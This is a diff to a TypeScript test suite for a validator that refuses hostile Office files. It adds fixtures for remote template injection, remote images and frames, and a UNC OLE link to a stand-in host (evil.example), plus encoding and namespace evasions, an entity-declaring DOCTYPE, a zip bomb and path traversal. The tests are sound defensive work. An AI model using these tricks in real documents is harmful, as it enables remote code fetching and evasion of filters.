@@ -53,6 +53,56 @@ test.each([
   expect(await recognise(bytes)).toMatchObject({ kind })
 })
 
+const officeRelations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+const relation = (type: string, target: string, more = '') =>
+  `<Relationship Id="r1" Type="${officeRelations}/${type}" Target="${target}" ${more}/>`
+const relationsOf = (part: string, relations: string) => ({
+  name: part.replace(/([^/]*)$/, '$1.rels'),
+  content: `<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relations}</Relationships>`,
+})
+const ofSettings = (relations: string) => [relationsOf('word/_rels/settings.xml', relations)]
+const external = 'TargetMode="External"'
+
+/** What a reader would fetch, or open as a program of its own. */
+const fetched: [string, { name: string; content: string | Buffer }[]][] = [
+  ['a remote template', ofSettings(relation('attachedTemplate', 'https://evil.example/a.dotm', external))],
+  ['a remote picture', ofSettings(relation('image', 'https://evil.example/a.png', external))],
+  [
+    'one behind a link that is allowed',
+    ofSettings(
+      relation('hyperlink', 'https://good.example/?a>b', external) +
+        relation('frame', 'https://evil.example/', external),
+    ),
+  ],
+  [
+    'one in other marks',
+    ofSettings(
+      `<Relationship Id='r1' TargetMode = 'External' Type='${officeRelations}/oleObject' Target='\\\\evil.example\\a'></Relationship>`,
+    ),
+  ],
+  [
+    'one whose words are written as characters',
+    ofSettings(relation('image', 'https://evil.example/a.png', 'TargetMode="&#69;xternal"')),
+  ],
+  [
+    'one in a namespace of its own',
+    ofSettings(
+      `<x:Relationship xmlns:x="a" Type="${officeRelations}/image" Target="http://evil.example" ${external}/>`,
+    ),
+  ],
+  ['an embedded object', [{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]],
+  ['an embedded object under another name', ofSettings(relation('oleObject', 'media/picture.bin'))],
+  ['an embedded document', ofSettings(relation('package', 'media/sheet.bin'))],
+  ['a page of HTML within', ofSettings(relation('aFChunk', 'media/page.html'))],
+]
+
+test('links to pages are no reason to refuse a document', async () => {
+  const links = relation('hyperlink', 'https://good.example/?a>b&amp;c=1', external) + relation('image', 'media/a.png')
+  expect(await recognise(officeOf('docx', ofSettings(links)))).toMatchObject({ kind: 'docx' })
+  const strict = links.replaceAll(officeRelations, 'http://purl.oclc.org/ooxml/officeDocument/relationships')
+  expect(await recognise(officeOf('docx', ofSettings(strict)))).toMatchObject({ kind: 'docx' })
+})
+
 describe('hostile and mistaken files are refused', () => {
   const html = '<!doctype html><script>alert(1)</script>'
   const bomb = { name: 'word/media/bomb.xml', content: Buffer.alloc(30 * 1024 * 1024) }
@@ -76,6 +126,28 @@ describe('hostile and mistaken files are refused', () => {
     ['a document with macros', officeOf('docm'), 'macros'],
     ['macros in disguise', officeOf('docx', [{ name: 'word/vbaProject.bin', content: 'x' }]), 'macros'],
     ['macros of Excel 4', officeOf('xlsx', [{ name: 'xl/macrosheets/sheet1.xml', content: 'x' }]), 'macros'],
+    ...fetched.map(([what, parts]): [string, Buffer, RefusalId] => [what, officeOf('docx', parts), 'linked']),
+    [
+      'a workbook that is filled from another',
+      officeOf('xlsx', [
+        relationsOf('xl/_rels/workbook.xml', relation('externalLink', 'externalLinks/externalLink1.xml')),
+      ]),
+      'linked',
+    ],
+    [
+      'relationships in words that another reader may read otherwise',
+      officeOf('docx', [
+        { name: 'word/_rels/settings.xml.rels', content: Buffer.from('\ufeff<Relationships/>', 'utf16le') },
+      ]),
+      'damaged',
+    ],
+    [
+      'relationships with a declaration of their own',
+      officeOf('docx', [
+        { name: 'word/_rels/settings.xml.rels', content: '<!DOCTYPE a [<!ENTITY e "External">]><Relationships/>' },
+      ]),
+      'damaged',
+    ],
     ['a part outside of its folder', officeOf('docx', [{ name: '../../evil.xml', content: 'x' }]), 'damaged'],
     ['an encrypted part', officeOf('docx', [{ name: 'a.xml', content: 'x', isEncrypted: true }]), 'damaged'],
     ['two lists of types', zipOf(Array(2).fill({ name: '[Content_Types].xml', content: '<Types/>' })), 'damaged'],
